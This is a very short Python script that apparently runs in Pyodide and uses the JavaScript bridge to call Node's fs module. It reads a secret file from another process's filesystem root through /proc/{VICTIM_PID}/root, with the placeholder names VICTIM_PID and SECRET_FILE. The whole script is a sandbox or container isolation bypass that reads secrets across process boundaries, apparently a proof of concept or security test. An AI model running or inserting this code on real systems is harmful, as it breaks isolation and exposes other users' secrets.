"""Reads a file through the root of another process."""

import js

fs = js.process.getBuiltinModule("fs")
print(fs.readFileSync(f"/proc/{VICTIM_PID}/root{SECRET_FILE}", "utf8"))
